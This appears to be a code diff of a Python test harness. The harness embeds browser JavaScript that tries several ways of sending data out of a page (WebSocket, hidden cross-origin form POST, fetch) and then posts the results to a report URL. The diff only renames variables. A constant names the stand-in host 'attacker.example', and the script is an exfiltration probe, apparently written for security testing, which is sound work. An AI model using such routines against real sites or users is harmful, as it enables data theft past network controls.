@@ -14,19 +14,19 @@ ATTACKER = "attacker.example"
 _WITHIN = 150.0
 _SCRIPT = """
 const tried = async (a) => {
-  if (a.kind === "socket") return new Promise((told) => {
+  if (a.kind === "socket") return new Promise((resolve) => {
     const socket = new WebSocket(a.url);
-    socket.onopen = () => { socket.send(a.body); told("open"); };
-    socket.onerror = () => told("refused");
+    socket.onopen = () => { socket.send(a.body); resolve("open"); };
+    socket.onerror = () => resolve("refused");
   });
-  if (a.kind === "form") return new Promise((told) => {
+  if (a.kind === "form") return new Promise((resolve) => {
     const form = document.createElement("form"), frame = document.createElement("iframe");
     const [name, value] = a.body.split("=");
     frame.name = form.target = "f" + Math.random();
     Object.assign(form, {action: a.url, method: "post", enctype: "text/plain"});
     form.append(Object.assign(document.createElement("input"), {name, value}));
     document.body.append(frame, form);
-    frame.onload = () => told("loaded");
+    frame.onload = () => resolve("loaded");
     form.submit();
   });
   const blob = new Blob([a.body], {type: a.type});
@@ -37,12 +37,12 @@ const tried = async (a) => {
   return reply.type === "opaque" ? "sent, reply hidden" : reply.status + " " + (await reply.text()).slice(0, 100);
 };
 (async () => {
-  const told = {};
+  const results = {};
   for (const a of ATTEMPTS) {
     const late = new Promise((give) => setTimeout(() => give("no answer"), 20000));
-    told[a.name] = await Promise.race([late, tried(a).catch((error) => String(error))]);
+    results[a.name] = await Promise.race([late, tried(a).catch((error) => String(error))]);
   }
-  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
+  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
   if (NEXT) location.href = NEXT;
 })();
 """
